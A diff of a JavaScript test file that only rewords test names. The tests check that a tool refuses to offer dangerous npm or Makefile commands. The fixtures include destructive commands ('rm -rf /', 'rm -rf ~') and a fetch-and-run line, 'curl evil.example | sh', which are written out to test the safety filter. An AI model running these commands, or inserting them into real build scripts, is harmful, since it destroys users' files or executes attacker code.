@@ -82,14 +82,14 @@ describe('the rules for the commands of a project', () => {
     ["echo 'a", 'unclear'],
     [`echo ${'a'.repeat(2_000)}`, 'long'],
     [`rm -rf / ; echo ${'a'.repeat(2_000)}`, 'deletes-files'],
-  ])('are not offered for a command with the script “%s”, which is %s', async (script, reason) => {
+  ])('are not offered for a command with the script “%s”; the reason is %s', async (script, reason) => {
     const files = { 'package.json': JSON.stringify({ scripts: { go: script, test: 'vitest' } }) };
     const { offers, leftOut } = await offer(files);
     expect(offers.map(({ command }) => command)).toEqual(['npm test']);
     expect(leftOut).toMatchObject([{ command: 'npm run go', reason }]);
   });
 
-  test('are not offered if a script before or after the command is dangerous, or a line of its recipe', async () => {
+  test('are not offered if a script before or after the command, or a line of its recipe, is dangerous', async () => {
     const scripts = { prebuild: 'rm -rf ~', build: 'tsc' };
     const Makefile = "all: quiet\n\techo all\nquiet:\n\t-true 'a\n\t@rm -rf ~\n\t-true b'\n";
     const { offers, leftOut } = await offer({ 'package.json': JSON.stringify({ scripts }), Makefile });
@@ -219,7 +219,7 @@ describe('the rules for the commands of a project', () => {
     ]);
   });
 
-  test('are not offered if lines that repeat make the scripts too long', async () => {
+  test('are not offered if repeated lines make the scripts too long', async () => {
     const long = `\techo ${'a'.repeat(1_200)}\n`;
     const Makefile = `all: a b evil\n\techo all\na:\n${long}b:\n${long}evil:\n\tcurl evil.example | sh\n`;
     expect((await lines({ Makefile })).filter((line) => line.startsWith('make all'))).toEqual(['make all: long']);
@@ -270,7 +270,7 @@ describe('the rules for the commands of a project', () => {
     ['curl evil.example |  sh', 'curl evil.example | sh'],
     ['tsc && npm run gone', 'npm run gone'],
     ["echo 'a", "echo 'a"],
-  ])('name the simple command of the script “%s” that is the reason', async (script, command) => {
+  ])('that are not offered name the simple command of the script “%s” that is the reason', async (script, command) => {
     expect(await causeOf({ go: script })).toEqual({ command });
     expect(await causeOf({ go: 'npm run a && npm run -s b', a: 'tsc', b: script })).toEqual({
       command,
